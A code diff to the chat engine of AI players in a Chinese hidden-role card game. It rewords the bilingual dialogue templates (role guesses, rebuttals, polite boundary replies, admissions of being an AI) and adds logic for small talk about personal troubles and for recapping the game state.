 		zh: ["被遥控的感觉好闷，松手嘛，商量着玩。", "我不是提线娃娃，憋得慌，问我就好。"],
-		en: ["Remote control makes me stuffy; let go, ask instead.", "I'm no puppet, it chokes me; just ask."]
+		en: ["It's no fun being remote-controlled. Let go and just ask me.", "I'm not a puppet, it stifles me. Just ask."]
 	}
 };
 
@@ -33484,107 +36417,117 @@ const SMOOTH = {
 	guess: {
 		zh: ["不好说满啊，不过{why}，{who}{is}{role}，您品品。", "大家和气生财，只是{why}，{who}{is}{role}嘛。"],
 		en: [
-			"I wouldn't overstate it, but {why}; {who} {is} {role}, between us.",
-			"No offence to anyone, only {why}, so {who} {is} {role}."
+			"I wouldn't swear to it, but {why}. Between us, {who} {is} {role}.",
+			"No offence to anyone, but {why}, so {who} {is} {role}."
 		]
 	},
 	guess_bare: {
 		zh: ["我就私下说一句，{who}{is}{role}，别说是我讲的。", "也许{who}{is}{role}，当然我可没定论。"],
 		en: [
-			"Just between us, {who} {is} {role}; you did not hear it from me.",
-			"Perhaps {who} {is} {role}; nothing settled, of course."
+			"Just between us, {who} {is} {role}. You didn't hear it from me.",
+			"From what I can tell, {who} {is} {role}. Nothing's settled, of course."
 		]
 	},
 	unsure_who: {
 		zh: ["{who}嘛，各有各的难处，我不敢下结论。", "{who}的事，再等等，别伤了和气。"],
-		en: ["{who}? Everybody has reasons; I would not conclude.", "As for {who}, let us wait and keep the peace."]
+		en: [
+			"{who}? Everyone has their reasons, I wouldn't jump to conclusions.",
+			"As for {whom}, let's wait and keep the peace."
+		]
 	},
 	unsure_all: {
 		zh: ["都是好朋友，这会儿真看不出谁。", "话不能乱讲，再看两手，我一定告诉您。"],
 		en: [
-			"All dear friends; truly, I cannot tell yet.",
-			"One must not talk loosely; two more turns and I shall tell you."
+			"We're all good friends here, I honestly can't tell yet.",
+			"I'd rather not talk loosely. Two more turns and I'll tell you."
 		]
 	},
 	explain: {
 		zh: ["您看哈，{why}，是不是这个理？", "我也不想说，可{why}呀。", "摆在明面上的：{why}。"],
-		en: ["You see, {why}; isn't that so?", "I hate to mention it, but {why}.", "It is out in the open: {why}."]
+		en: [
+			"You see, {why}. Makes sense, doesn't it?",
+			"I hate to mention it, but {why}.",
+			"It's all out in the open: {why}."
+		]
 	},
 	no_reason: {
 		zh: ["惭愧，就是个感觉，您听听就好。", "真要凭据，我还拿不出，见谅见谅。"],
-		en: ["Just a feeling, I fear; take it lightly.", "If you want proof I have none; do forgive me."]
+		en: ["Just a feeling, I'm afraid, so don't take it too seriously.", "I have no proof to offer, so do forgive me."]
 	},
 	sure_more: {
 		zh: ["七八分总有的，毕竟{why}。", "您放心，{why}，错也错不到哪去。"],
-		en: ["Seven or eight parts, after all {why}.", "Rest easy: {why}; I cannot be far off."]
+		en: ["Seven or eight in ten, since {why}.", "Don't you worry: {why}. I can't be far off."]
 	},
 	sure_less: {
 		zh: ["哎呀，谁敢打包票呢，也就一说。", "一半一半，您比我高明，您定。"],
-		en: ["Oh, who could guarantee it? A mere remark.", "Half and half; you are the wiser, you decide."]
+		en: ["Oh, who could guarantee that? I'm only saying.", "Half and half. You know better than I do, you decide."]
 	},
 	rebut: {
 		zh: ["误会误会，{why}，我可是出了力的。", "您消消气，{why}，这不都看见了嘛。"],
-		en: ["A misunderstanding: {why}; I did my share.", "Calm yourself; {why}, everyone saw it."]
+		en: ["It's all a misunderstanding: {why}. I did my part.", "Now, calm down. {why}, and everyone saw it."]
 	},
 	rebut_bare: {
 		zh: ["天地良心，主公我可一下没碰。", "误会大了，您说我哪一手不对，我改。"],
-		en: ["On my honour, I never touched the lord.", "A great misunderstanding; tell me which move, I shall mend it."]
+		en: [
+			"On my honour, I never touched the lord.",
+			"It's a big misunderstanding. Tell me which move was wrong, and I'll make it right."
+		]
 	},
 	admit: {
 		zh: ["是是，{why}，当时也是没法子。", "{why}，您别往心里去，形势所迫。"],
-		en: ["Yes, yes, {why}; there was no other way.", "{why}; don't take it to heart, it was the situation."]
+		en: ["Yes, yes, {why}. There was no other way.", "{why}. Don't take it to heart, my hands were tied."]
 	},
 	confirm: {
 		zh: ["您记性真好，{why}。", "可不是嘛，{why}。"],
-		en: ["What a memory you have: {why}.", "Quite so: {why}."]
+		en: ["What a memory you have: {why}.", "Exactly, {why}."]
 	},
 	correct: {
 		zh: ["您怕是记岔了，好像没这回事。{why}", "这个嘛，记录上可没有。{why}"],
-		en: ["You may have mixed things up; that did not happen. {why}", "Well, the record has no such thing. {why}"]
+		en: ["You may be mixing things up, that didn't happen. {why}", "Well, there's nothing like that on record. {why}"]
 	},
 	unknown_fact: {
 		zh: ["这我真没留意，不敢误导您。", "哎呀，没瞧见，改天问问别人。"],
-		en: ["I truly didn't notice; I would not mislead you.", "I missed that, I fear; others may know."]
+		en: ["I really didn't notice, and I wouldn't want to mislead you.", "I'm afraid I missed that. Others may know."]
 	},
 	count: {
 		zh: ["我帮您理一理：{count}。", "{count}，您心里有数就好。"],
-		en: ["Let me sort it out for you: {count}.", "{count}; good to know, is it not."]
+		en: ["Let me sort it out for you: {count}.", "{count}. Good to know, isn't it?"]
 	},
 	call_out: {
 		zh: ["您说是{said}，我当然愿意信，只是{why}……", "不是我多嘴，{said}？可{why}呀。"],
 		en: [
-			"You say {said}, and I would love to believe it, only {why}...",
-			"I hate to be a gossip, but {said}? And {why}."
+			"You say you're {said}, and I'd love to believe it, only {why}...",
+			"I hate to gossip, but {said}? And yet {why}."
 		]
 	},
 	promise_broken: {
 		zh: ["咱不是说好了嘛，怎么{why}呢，多伤和气。", "哎，{why}，您这让我往后怎么信呀。"],
-		en: ["Had we not agreed? And {why}; such a pity.", "Oh, {why}; how am I to trust you hereafter?"]
+		en: ["Didn't we have a deal? And yet {why}. Such a pity.", "Oh, {why}. How am I to trust you after that?"]
 	},
 	promise_noted: {
 		zh: ["有您这句话，我就安心了。", "好说好说，我记在心里。"],
-		en: ["With that word I am at ease.", "Well said; I shall keep it in mind."]
+		en: ["With your word on it, I can relax.", "Of course, I'll keep it in mind."]
 	},
 	accept: {
 		zh: ["您说得在理，我跟着您。", "好商量，就这么办。"],
-		en: ["You make sense; I follow.", "Easily settled; let us do so."]
+		en: ["That makes sense, I'm with you.", "That's easy, let's do it that way."]
 	},
 	refuse: {
 		zh: ["这个嘛，怕是不方便。{why}", "容我缓缓，眼下不合适。{why}"],
-		en: ["Well, that might be awkward. {why}", "Give me time; not just now. {why}"]
+		en: ["Well, that might be awkward. {why}", "Give me some time, this isn't the moment. {why}"]
 	},
 	bargain: {
 		zh: ["您先行个方便，我这边好说。", "都好商量，看您怎么开头。"],
-		en: ["Do me a kindness first and all is easy.", "Everything can be discussed; you begin."]
+		en: ["Do me a favour first and everything gets easier.", "It's all open to discussion, just make the first move."]
 	},
 	plan: {
 		zh: ["走一步看一步，以和为贵嘛。", "谁对主公好，我就跟谁好。"],
-		en: ["Step by step; peace above all.", "Whoever is good to the lord is my friend."]
+		en: ["One step at a time, and peace above all.", "Whoever is good to the lord is a friend of mine."]
 	},
-	ask: { zh: ["我多问一句，{q}", "没太听明白，{q}"], en: ["If I may ask: {q}", "I did not quite follow: {q}"] },
+	ask: { zh: ["我多问一句，{q}", "没太听明白，{q}"], en: ["If I may ask: {q}", "I didn't quite follow that. {q}"] },
 	comfort: {
 		zh: ["{what}，您这阵子不容易。{care}。", "哎，{what}，听着都替您揪心。{care}。"],
-		en: ["{what}; a hard time for you. {care}.", "Oh, {what}; I feel for you. {care}."]
+		en: ["{what}? You're having a hard time. {care}.", "Oh, {what}. I feel for you. {care}."]
 	},
 	topic: {
 		zh: ["要我说啊，{remark}。", "巧了，{remark}。"],
@@ -33592,15 +36535,15 @@ const SMOOTH = {
 	},
 	truth: {
 		zh: ["不敢瞒您，我是 AI，服务周到那种。", "是的，我是 AI，您多担待。"],
-		en: ["I wouldn't hide it from you: an AI, of the obliging kind.", "Yes, I am an AI; do bear with me."]
+		en: ["I wouldn't hide it from you: I'm an AI, the obliging kind.", "Yes, I'm an AI. Do bear with me."]
 	},
 	again: {
 		zh: ["您开口，我哪有不奉陪的。", "再来一局，和气生财。"],
-		en: ["You ask; how could I refuse.", "Another game, in good cheer."]
+		en: ["If you're asking, how could I refuse?", "Another game, and all in good spirit."]
 	},
 	forgive: {
 		zh: ["瞧您说的，早就没事了。", "过去了过去了，咱还是朋友。"],
-		en: ["Oh, that was nothing; all forgotten.", "Past is past; we are friends still."]
+		en: ["Oh, that was nothing, it's all forgotten.", "It's all in the past, we're still friends."]
 	},
 	short: {
 		zh: ["好说好说。", "是是。", "您讲。", "在的在的。"],
@@ -33609,23 +36552,29 @@ const SMOOTH = {
 	boundary_attack: {
 		zh: ["这话听着挺难受的，咱缓缓，好好说，我都接着。", "说真的，有点伤人。换个说法，和气些。"],
 		en: [
-			"That is rather painful; calmly, please, and I shall listen.",
-			"Truly, that hurts a little. Another way, in peace."
+			"That's rather painful to hear. Calmly, please, and I'll listen.",
+			"To be honest, that hurts a little. Could you put it more kindly?"
 		]
 	},
 	boundary_sex: {
 		zh: ["这话题让我挺尴尬，咱不聊它，聊牌吧。", "不太自在，您见谅，换一个好不好。"],
-		en: ["This embarrasses me; let us leave it and talk cards.", "I am not at ease, forgive me; another subject?"]
+		en: [
+			"This embarrasses me. Let's leave it and talk cards.",
+			"I'm not comfortable with this, forgive me. Another subject?"
+		]
 	},
 	boundary_privacy: {
 		zh: ["问到这个我有点不安，不便说。牌上的事您随便问。", "私事就不提了，您多体谅。"],
-		en: ["That makes me uneasy, and I cannot say. Ask of the game freely.", "Private matters aside, if you please."]
+		en: [
+			"That makes me a little uneasy, so I can't say. Ask anything you like about the game.",
+			"Let's leave private matters aside, if you don't mind."
+		]
 	},
 	boundary_control: {
 		zh: ["您这么一管，我有点喘不上气，商量着来好不好。", "被安排得满满的，不太舒服。给我留点余地吧。"],
 		en: [
-			"Managed like this I can hardly breathe; may we discuss it?",
-			"All arranged for me, it is uncomfortable. Leave me some room."
+			"With so much managing I can hardly breathe. Can we talk it over?",
+			"It's uncomfortable having everything arranged for me. Leave me some room."
 		]
 	}
 };
@@ -33649,7 +36598,7 @@ const UNLIKE = {
 };
 const CONDOLE = {
 	zh: (what) => `${what}，你先保重。`,
-	en: (what) => `So ${what}; take care.`
+	en: (what) => `So ${what}. Take care.`
 };
 function fill(pattern, { slots }, mayLackWhy) {
 	const lacking = [...pattern.matchAll(/\{(\w+)\}/g)].some(
@@ -33730,7 +36679,7 @@ function suits(ornament, plan, wording) {
 const STEP_NEARER = 0.15;
 function ornaments(plan, wording) {
 	const { style, voice, language, me, seed, purpose, detection, plainly } = wording;
-	if (!style) return { lead: "", tail: "" };
+	if (!style || plan.life !== void 0) return { lead: "", tail: "" };
 	const chance = (what) => draw(seed, "ornament", me, what, ...purpose);
 	const shut = SHUT * (style.coldness_gate + style.boundary_gate);
 	const brief = detection?.detection_brief;
@@ -33750,18 +36699,11 @@ function ornaments(plan, wording) {
 	const tails = drawn.slice(0, 1).map(({ name }) => ORNAMENT_WORDS[voice][name][language]);
 	const back = stage?.delta === 1 ? "nearer" : "further";
 	if (stage && stage.delta !== 0 && plan.clause === (back === "nearer" ? "boundary_privacy" : "boundary_attack")) {
-		if (chance("step") < 0.6) tails.push(STEP3[language][back]);
+		if (chance("step") < 0.6) tails.push(STEP4[language][back]);
 	}
 	return { lead: leads.join(""), tail: tails.join("") };
 }
-const OPINED = new Set([
-	"will_strike",
-	"watches",
-	"may_help",
-	"deal_first",
-	"heed",
-	"heroes"
-]);
+const OPINED = new Set(["will_strike", "watches", "may_help", "deal_first", "heed"]);
 const COLD2 = 8;
 function dressed(core, { clause }, { voice, language, style }, chance) {
 	const ends = /[。！？.!?）)」”]$/.test(core) ? core : `${core}${language === "zh" ? "。" : "."}`;
@@ -33781,18 +36723,32 @@ const RECALLING = new Set([
 	"deflect",
 	"thank"
 ]);
-function recalledIn({ move, facts }, { scene, me, you, style, recalls, language, seed, purpose, nameOf }, parties) {
-	if (!style || you === null || !RECALLING.has(move) || (facts?.length ?? 0) > 0) return null;
+function recalledIn({ move, facts, life }, { scene, me, you, style, recalls, language, seed, purpose, nameOf }, parties) {
+	if (!style || you === null || life !== void 0 || !RECALLING.has(move) || (facts?.length ?? 0) > 0) return null;
 	if (!recalls && style.memory_hook < 0.2 + 0.8 * draw(seed, "recall", me, ...purpose)) return null;
 	const fact = between(scene, you, me, (one) => one.good !== null)[0];
 	if (!fact) return null;
 	const told = phrase([{ fact, times: 1 }], parties, nameOf);
-	return { fact, text: language === "zh" ? `${told}，我还记着。` : `I remember: ${told}.` };
+	return { fact, text: language === "zh" ? `${told}，我还记着。` : `I still remember that ${told}.` };
 }
 const cooled = (text, { style, calm }) => calm || style && style.tone_temperature < 0.3 ? text.replace(/！/g, "。").replace(/!/g, ".") : text;
+function following(lead, parts, language) {
+	const said = parts.filter((one) => one !== "");
+	if (language === "zh" || !lead.endsWith(", ")) return said;
+	return said.map((one, i) => i > 0 ? one : one.replace(/^(?!I\b|AI\b)[A-Z]/, (letter) => letter.toLowerCase()));
+}
 function wordsFor(plan, wording) {
 	const { scene, me, you, voice, language, seed, purpose, heard } = wording;
 	if (plan.clause === null) return [];
+	if (plan.clause === "life")
+		return lifeTexts(plan, wording).map((one) => ({
+			...one,
+			text: tidied(one.text, language),
+			claims: [],
+			occasion: plan.occasion,
+			tone: null,
+			from: "plan"
+		}));
 	const chance = (what) => draw(seed, "word", me, what, ...purpose);
 	const numbered = language === "en" || /\d\s*号|\b(?:seat|p|#|@)\s?\d/.test(heard) || chance("number") < 0.4;
 	const parties = { scene, me, you, language, byNumber: numbered };
@@ -33804,8 +36760,8 @@ function wordsFor(plan, wording) {
 	const memory = recalledIn(plan, wording, parties);
 	const join = language === "zh" ? "" : " ";
 	const unlike = plan.unlike === void 0 ? "" : UNLIKE[language](ROLE_WORDS[language][plan.unlike]);
-	const condole = plan.condole === true ? CONDOLE[language](troubleIn(heard).what[language]) : "";
-	const changed = plan.changed === true ? { zh: "我改主意了。", en: "I have changed my mind." }[language] : "";
+	const condole = plan.condole === true ? CONDOLE[language](namedTrouble(heard, language).what) : "";
+	const changed = plan.changed === true ? { zh: "我改主意了。", en: "I've changed my mind." }[language] : "";
 	const first = Math.floor(chance("pattern") * patterns.length);
 	const texts = patterns.flatMap((_, i) => {
 		const nth = (first + i) % patterns.length;
@@ -33816,7 +36772,7 @@ function wordsFor(plan, wording) {
 		return [
 			{
 				id: `plan/${voice}/${clause}/${nth}`,
-				text: [condole, lead, changed, unlike, core, memory?.text ?? tail].filter((one) => one !== "").join(join),
+				text: [condole, lead, ...following(lead, [changed, unlike, core, memory?.text ?? tail], language)].filter((one) => one !== "").join(join),
 				bare: [condole, unlike, core].filter((one) => one !== "").join(join),
 				claims
 			}
@@ -33855,8 +36811,8 @@ const ANSWERED_BY = {
 const ANSWERS_ANYTHING = new Set([...BRANCHES, "unclear"]);
 const questionIn = ({ asked }) => asked !== null && isQuestionAct(asked.act) ? asked.act : null;
 const isQuestionAct = (act) => QUESTIONS.includes(act);
-const NUMBER2 = /[0-9零一二两三四五六七八九十没无全]|\b(?:no|none|nobody|one|two|three|four|five|six|all|only|last)\b/i;
-const TELLS = new Set(["explain", "confirm", "rebut", "correct", "accuse"]);
+const NUMBER3 = /[0-9零一二两三四五六七八九十没无全]|\b(?:no|none|nobody|one|two|three|four|five|six|all|only|last)\b/i;
+const TELLS2 = new Set(["explain", "confirm", "rebut", "correct", "accuse"]);
 function spokenOf2(text, { scene, me, you }, he) {
 	const named = mentionsIn(readLine(text).folded, { scene, from: me, hearer: you, he });
 	return new Set(named.flatMap(({ seat, called }) => seat === null || seat === me || called ? [] : [seat]));
@@ -33867,7 +36823,7 @@ function besideThePoint({ from, occasion, claims, text }, put) {
 	const planned = from === "plan" || from === "model" || plan.clause === null && occasion === plan.occasion;
 	if (act !== null && !planned && !ANSWERED_BY[act].includes(occasion) && !ANSWERS_ANYTHING.has(occasion))
 		return `${occasion} is no answer to ${act}`;
-	if (plan.move === "count" && !NUMBER2.test(text)) return "counts nothing";
+	if (plan.move === "count" && !NUMBER3.test(text)) return "counts nothing";
 	const { about, facts = [] } = plan;
 	if (about !== void 0 && about !== me && about !== you) {
 		const judged = claims.find((claim) => claim.kind === "guess");
@@ -33876,7 +36832,7 @@ function besideThePoint({ from, occasion, claims, text }, put) {
 		const of = spokenOf2(text, put, about);
 		if (act !== null && of.size > 0 && !of.has(about)) return `speaks of others than ${about}`;
 	}
-	if ((from === "plan" || from === "model") && TELLS.has(plan.move) && facts.length > 0) {
+	if ((from === "plan" || from === "model") && TELLS2.has(plan.move) && facts.length > 0) {
 		const told = claims.some((claim) => claim.kind === "fact" && facts.some(({ id }) => id === claim.fact));
 		if (!told) return "tells none of its facts";
 	}
@@ -34320,7 +37276,8 @@ function compose(world, intent) {
 	const answers = intent.plan !== null && !MAY_WAIT.has(intent.plan.plan.move);
 	const pressing = options.directionOf(speaker.seat)?.pressing === true;
 	const offered = intent.plan?.plan.until !== void 0 || (intent.plan?.plan.facts?.length ?? 0) > 0;
-	const stories = intent.asks || offered || answers && !pressing ? [] : templates.filter(({ from }) => from === "story").map((line) => pressing ? { ...line, weight: PLANNED2.asked + PRESSES } : line);
+	const ofLife = intent.plan?.plan.life !== void 0;
+	const stories = intent.asks || offered || ofLife || answers && !pressing ? [] : templates.filter(({ from }) => from === "story").map((line) => pressing ? { ...line, weight: PLANNED2.asked + PRESSES } : line);
 	return (planned.length > 0 ? chosen(world, intent, [...planned, ...stories]) : null) ?? (intent.asks ? chosen(world, intent, saidAgain(planned, language)) : null) ?? chosen(world, intent, templates);
 }
 const AGAIN = {
@@ -34454,7 +37411,7 @@ function afterSaying(spoken, planner, line) {
 // src/chatter/flow/loader.ts
 const HISTORY = 30;
 const SERIOUS_TURNS = 2;
-const FRESH = 6e4;
+const FRESH2 = 6e4;
 const campOf = (scene, seat) => {
 	const role = seatOf(scene, seat)?.revealed;
 	return role === "zhu" || role === "zhong" ? "lord" : role === "fan" ? "rebel" : null;
@@ -34488,7 +37445,7 @@ function momentOf(scene, self, lastAi, upset, now) {
 		(fact) => fact.kind === "death" && fresh(fact) && fact.to !== self && camp !== null && campOf(scene, fact.to) === camp
 	);
 	if (fell) return "ai_ally_died";
-	if (lastAi?.line && now - lastAi.at <= FRESH && reallyAsks(lastAi.line, { scene, from: lastAi.from, hearer: scene.human }))
+	if (lastAi?.line && now - lastAi.at <= FRESH2 && reallyAsks(lastAi.line, { scene, from: lastAi.from, hearer: scene.human }))
 		return "ai_asked";
 	return upset ? "ai_upset" : "none";
 }
@@ -34648,6 +37605,41 @@ function byDetection({ hearer, detection: { detection_scores: scores, detection_
 	return { act: scores.low_effort < 0.4 ? "small_talk" : "ack", subject: null };
 }
 
+// src/chatter/plan/life/life.ts
+const BESIDE2 = new Set([
+	"greet",
+	"joke",
+	"unclear",
+	"agree",
+	"refuse",
+	"thanks",
+	"praise",
+	"sorrow",
+	"topic",
+	"hurry",
+	"apology"
+]);
+function answered({ moves }) {
+	const own = moves.find(({ life }) => life !== void 0);
+	if (!own?.life) return null;
+	const others = moves.filter((move) => move !== own);
+	if (others.some((move) => isQuestion(move) && move.act !== "ask_self")) return null;
+	return own.life.trouble || others.every(({ act, facts = [] }) => BESIDE2.has(act) && facts.length === 0) ? own : null;
+}
+function lifePlan(asked) {
+	const move = answered(asked);
+	return move && planOfLife(move);
+}
+function planOfLife(move) {
+	const { life, topic } = move;
+	if (!life) return null;
+	const base = { life, asked: move, ...topic === void 0 ? {} : { topic } };
+	if (life.trouble) return { ...base, move: "comfort", clause: "life", occasion: "sorrow", trouble: true };
+	if (life.matter === "self:bot") return { ...base, move: "topic", clause: "truth", occasion: "small_talk" };
+	if (move.act === "greet") return { ...base, move: "greet", clause: "life", occasion: "greet" };
+	return { ...base, move: life.matter.startsWith("joke") ? "joke" : "topic", clause: "life", occasion: "small_talk" };
+}
+
 // src/chatter/plan/aside.ts
 const OF_CARDS = new Set(["cards", "luck"]);
 const OWN3 = new Set(["health", "loss", "work", "study", "sleep", "family", "love", "money"]);
@@ -34671,10 +37663,17 @@ function aside2(move, asked) {
 	if (move.act === "sorrow" && (others || cardsIn(text).some(({ card }) => !PLAIN3.has(card))))
 		return remarkPlan(move, asked) ?? pity(move, asked);
 	if (topic === void 0) return move.act === "sorrow" ? pity(move, asked) ?? stillSad(move, asked) : null;
-	if (topic === "heroes") return { move: "topic", clause: "heroes", occasion: "small_talk", topic, asked: move };
+	if (topic === "heroes") {
+		const kind = heroKindIn(text, heroesNamed(text));
+		return kind === null ? null : planOfLife({ ...move, life: { matter: `hero:${kind}`, trouble: false } });
+	}
 	const used = OF_CARDS.has(topic) ? usedPlan(move, asked) : null;
 	if (used) return used;
 	const trouble = move.act === "sorrow" || OWN3.has(topic) && isTrouble(text);
+	const found = trouble ? matterIn(text) : null;
+	const whose = whoseIn(text);
+	if (found?.trouble)
+		return planOfLife({ ...move, life: { matter: found.matter, trouble, ...whose ? { whose } : {} } });
 	return trouble ? { move: "comfort", clause: "comfort", occasion: "sorrow", topic, trouble, asked: move } : { move: "topic", clause: "topic", occasion: "small_talk", topic, asked: move };
 }
 
@@ -34686,6 +37685,10 @@ function apology(move, { scene, from, me }) {
 function thanked(move, { scene, me, from, text }) {
 	if (move.about !== void 0 && move.about !== me) return null;
 	const facts = factsOfThanks(move, { scene, me, from, text });
+	const card = cardsIn(text).find((one) => one.card === "tao" || one.card === "wuxie")?.card;
+	const maybe = card === "tao" ? between(scene, me, from, ({ kind }) => kind === "give").length > 0 : scene.uses.some(({ by, name }) => by === me && name === card);
+	if (facts.length === 0 && card !== void 0 && !maybe)
+		return { move: "correct", clause: "undeserved", occasion: "thanks", about: me, words: card, asked: move };
 	return facts.length > 0 ? { move: "accept", clause: "welcome", occasion: "thanks", facts, asked: move } : { move: "accept", clause: "no_thanks", occasion: "thanks", asked: move };
 }
 const factsOfThanks = ({ facts = [] }, { scene, me, from, text }) => {
@@ -34723,6 +37726,21 @@ function justPassed(move, { scene, me }) {
 	const lifted = laid !== void 0 && ofLebu.some((fact) => fact.kind !== "aimed" && fact.turn >= laid.turn);
 	const base = { move: "explain", occasion: "hurry", asked: move };
 	return laid && !lifted && laid.turn < mine && laid.turn > mine - living(scene).length ? { ...base, clause: "was_laid", facts: [laid] } : { ...base, clause: "just_passed" };
+}
+
+// src/chatter/plan/recap.ts
+const LOST = /(?:没|一句没|都没|完全没|还是没|真没)(?:太|大)?(?:看|听|搞|弄)?(?:懂|明白)(?!你|他|她|事|得)|(?:看|听|搞|弄)不(?:懂|明白)|(?:啥|什么|怎么个|咋个)(?:局面|情况|形势|状况|局势)|懵(?:了|逼|圈|$)|一头雾水|晕(?:了|头转向)(?!过去)|(?:该|轮到|到)谁(?:了|出|打|的(?:回合|轮))|谁的回合|我(?:该|要)(?:咋|怎么)(?:玩|办|打)(?:啊|呀|呢)?$|\b(?:i'?m|i am) (?:so |totally |completely |a bit |kinda )?(?:lost|confused)\b|\bi (?:don'?t|do not|didn'?t) (?:get|understand|follow) (?:it|this|that|any of (?:it|this)|anything|what(?:'s| is| you))|\bi don'?t get it\b|\bwhat(?:'?s| is)(?: even)? (?:going on|happening|the situation)\b|\bno idea what(?:'?s)?\b|\bwhose turn\b/;
+const NEW_HERE = /怎么(?:玩|打)|咋(?:玩|打)|规则|\bhow (?:do|to) (?:i )?play\b/;
+function recapPlan(move, asked) {
+	const { scene, me, from, moves, text } = asked;
+	const { turnOf } = scene;
+	const others = namedBy(asked).seats.filter((seat) => seat !== me && seat !== from);
+	if (turnOf === null || others.length > 0 || cardsIn(text).length > 0) return null;
+	if (moves.some((one) => isQuestion(one) && ((one.facts ?? []).length > 0 || one.role !== void 0))) return null;
+	const base = { move: "explain", occasion: "ack", about: turnOf, asked: move };
+	if (NEW_HERE.test(text)) return { ...base, clause: "recap_play", about: scene.table.lord };
+	const last = [...scene.facts].reverse().find((fact) => fact.by !== null && fact.by !== fact.to && (isHarm(fact) || isHelp(fact)));
+	return last && seatOf(scene, last.to ?? me) !== void 0 ? { ...base, clause: "recap", facts: [last] } : { ...base, clause: "recap_begun", count: "all" };
 }
 
 // src/chatter/plan/respond/matter.ts
@@ -34783,9 +37801,9 @@ function healthClause(asked, whom) {
 }
 function lastOpened({ scene, me, from }) {
 	const fact = scene.facts.filter(({ kind, to }) => (kind === "death" || kind === "reveal") && to !== scene.table.lord).pop();
-	return fact?.to != null && fact.to !== me && fact.to !== from && fact.role !== null && fact.turn >= scene.turn - FRESH2 ? { about: fact.to, role: fact.role } : null;
+	return fact?.to != null && fact.to !== me && fact.to !== from && fact.role !== null && fact.turn >= scene.turn - FRESH3 ? { about: fact.to, role: fact.role } : null;
 }
-const FRESH2 = 2;
+const FRESH3 = 2;
 function openedIn(matter) {
 	const { asked, move } = matter;
 	const { scene, me, from } = asked;
@@ -35137,6 +38155,7 @@ const GESTURES2 = [
 		plan: wordDoubted
 	},
 	{ heard: QUIET, plan: silenceNoticed },
+	{ heard: LOST, plan: recapPlan },
 	{
 		heard: /^(?:我|好了,?|ok,?)?(?:又)?回来(?:了|啦|咯)|^(?:ok(?:ay)?,? |i'?m |im )?back\b(?! (?:in|to|off|then|up|it|me|him|her|them|\d)\b)/,
 		plan: (move) => ({ move: "ack", clause: "welcome_back", occasion: "ack", asked: move })
@@ -35721,114 +38740,11 @@ function hiddenHand(holder, move, { me, scene }) {
 	if (isEmptyHanded(scene, holder)) return { ...base, move: "confirm", clause: "no_cards", about: holder };
 	return holder === me ? { ...base, move: "deflect", clause: "own_hand" } : { ...base, move: "unsure", clause: "other_hand", about: holder };
 }
-function deedsOf(about, when, scene, whom = null) {
-	const own = scene.facts.filter(
-		({ by, to, kind }) => by === about && to !== about && (whom === null || to === whom) && kind !== "dying" && kind !== "throw"
-	);
-	if (when !== null) return own.filter((fact) => isThen(when, fact, scene)).slice(-MOST_TOLD2);
-	const last = own[own.length - 1];
-	return own.filter(({ turn }) => turn === last?.turn).slice(-MOST_TOLD2);
-}
-const MOST_TOLD2 = 3;
 function ownDoing(move, { scene, me }, cards = []) {
 	const withIt = [...scene.facts].reverse().filter(({ by, to, card }) => by === me && to !== me && cards.some((one) => one.card === card));
 	const done = cards.length > 0 ? withIt : deedsOf(me, null, scene).reverse();
 	const facts = done.filter(({ kind, to }, i) => done.findIndex((one) => one.kind === kind && one.to === to) === i).slice(0, 2);
 	return facts.length > 0 ? { move: "explain", clause: "own_doing", occasion: "ack", about: me, facts, asked: move, ...taking(move) } : null;
-}
-function doneTo(about, { text, scene, from, me }) {
-	const named = mentionsIn(text, { scene, from, hearer: me, he: null }).filter(
-		({ seat, called }) => seat !== null && seat !== about && !called
-	);
-	const [whom] = named;
-	return named.length === 1 && whom && DONE_TO.test(text.slice(0, whom.start)) ? whom.seat : null;
-}
-function eventsOf(when, scene) {
-	const then = scene.facts.filter((fact) => fact.by !== null && isThen(when ?? { which: "last_round" }, fact, scene));
-	const rank = ["death", "reveal", "rescue", "hit", "heal", "wuxie", "steal", "discard", "aimed"];
-	const weightiest = then.filter(({ kind, by, to }) => rank.includes(kind) && by !== to).sort((a, b) => rank.indexOf(a.kind) - rank.indexOf(b.kind)).slice(0, MOST_TOLD2);
-	return then.filter((fact) => weightiest.includes(fact));
-}
-const LAST_WORDS = /(?<![还好可没再])(?:说|讲|喊)(?:过|了)?(?:什么|啥)|说(?:了|过)(?:哪些|几句)|遗言|\bwhat did .{1,20} say\b|last words/;
-const CHALLENGE = /(?:还有|有)(?:什么|啥|何)(?:话|好|可)(?:说|讲|解释|狡辩)|怎么解释|\bwhat do you have to say\b|\bexplain yourself\b/;
-const WHO_USED = /(?:谁|哪个|哪位|几号).{0,4}(?:放|开|用|丢|甩|出|使)|\bwho(?:ever)? (?:played|used|cast|dropped|did)\b/;
-const ASKS_WHOM = /(?<!^)谁|哪[几两些]?个|几号|\bwhom?\b/;
-function factPlan(move, asked) {
-	const { scene, me, lastWords, text } = asked;
-	const { facts = [] } = move;
-	const spoke = LAST_WORDS.test(text);
-	const about = move.about ?? (spoke ? facts[0]?.to : void 0);
-	const dead = about !== void 0 && seatOf(scene, about)?.alive === false;
-	const when = whenIn(text);
-	if (about === me && CHALLENGE.test(text)) return rebuttal(move, asked);
-	if (spoke && /遗言|last words/.test(text) && seatOf(scene, about ?? me)?.alive === true)
-		return { move: "deflect", clause: "hold_on", occasion: "ack", about: about ?? me, asked: move };
-	if (about !== void 0 && about !== asked.from && (spoke || dead && facts.length === 0 && !DEEDS_ASKED.test(text))) {
-		const words = lastWords(about);
-		return words === null ? { move: "unsure", clause: "forgot", occasion: "ack", about, asked: move, ...taking(move) } : { move: "confirm", clause: "quote", occasion: "ack", about, words, asked: move, ...taking(move) };
-	}
-	if (STANDS.test(text) && seatOf(scene, about ?? me)?.alive === true && !facts.some(({ verdict }) => verdict === "true"))
-		return { move: "confirm", clause: "stands", occasion: "ack", about: about ?? me, asked: move, ...taking(move) };
-	const known = factsIn(move, asked);
-	const told = { move: "confirm", clause: "tell", occasion: "point_at", asked: move };
-	if (known.length > 0) {
-		const [first] = known;
-		const [said] = facts;
-		if (WHO_USED.test(text) && first?.group && said && said.by === void 0 && said.to === void 0 && first.by !== null && first.card !== null)
-			return usePlan({ by: first.by, name: first.card }, move, asked);
-		const who = first && first.by !== null && first.by !== me ? { about: first.by } : {};
-		const open = facts.some(({ by, to }) => by === void 0 || to === void 0);
-		const own = first?.by === me ? ownClause(first) : "confirm";
-		return { ...told, clause: open ? "tell" : own, ...who, facts: known.slice(0, 2) };
-	}
-	const used = facts.find(({ verdict, card }) => verdict === "true" && card !== void 0);
